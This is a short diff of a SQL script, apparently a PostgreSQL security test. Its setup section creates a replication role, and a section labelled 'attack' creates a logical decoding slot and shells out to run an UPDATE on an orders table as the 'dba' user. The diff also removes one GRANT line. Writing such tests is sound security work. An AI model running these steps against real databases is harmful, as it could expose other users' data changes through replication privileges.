@@ -46,7 +46,6 @@ SELECT most_common_vals FROM pg_stats_ext WHERE tablename = 'orders';
 -- needs ADMIN on database
 -- setup
 CREATE ROLE temp LOGIN REPLICATION;
-GRANT EXECUTE ON FUNCTION pg_logical_emit_message(boolean, text, text) TO temp;
 -- attack
 SELECT 1 FROM pg_create_logical_replication_slot('changes', 'test_decoding', true);
 \! psql -Xq -U dba -c "UPDATE orders SET status = status WHERE id = 1"
